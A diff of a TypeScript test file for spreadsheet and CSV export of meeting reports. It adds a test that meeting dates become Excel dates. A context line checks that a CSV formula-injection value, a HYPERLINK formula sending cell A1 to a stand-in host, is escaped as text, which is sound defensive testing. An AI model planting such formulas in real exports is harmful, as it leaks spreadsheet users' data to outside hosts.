@@ -326,3 +326,18 @@ test('a formula in a note or a name is a text in the file, and a number below ze
   expect(text).toContain(`"'=HYPERLINK(""http://x/""&A1,""Bấm"")"`)
   expect(text).toContain(',-5,')
 })
+
+test('a day is a date for Excel, whole and in the order of the country, and its letters elsewhere', async () => {
+  const all: PublishedData = {
+    ...NOTHING,
+    reports: [sampleDistrict.reports.find(({ meetingDate }) => meetingDate)!],
+  }
+  const tables = publishedTables(all, CONTEXTS.vi)
+  const reports = tables.find(({ columns }) => columns.some((each) => each.heading === 'Ngày họp'))!
+  const at = reports.columns.findIndex(({ heading }) => heading === 'Ngày họp')
+  const day = reports.rows[0]?.[at]
+  const file = await workbook([dataSheet(reports)], { title: '', subject: '' })
+  const { sheets } = await readXlsx(await file.arrayBuffer(), { readStyles: true })
+  expect(sheets[0]?.rows[1]?.[at]).toEqual(day ? new Date(`${day}T00:00:00Z`) : null)
+  expect(csv(rowsWithHeadings(reports))).toContain(String(day ?? ''))
+})
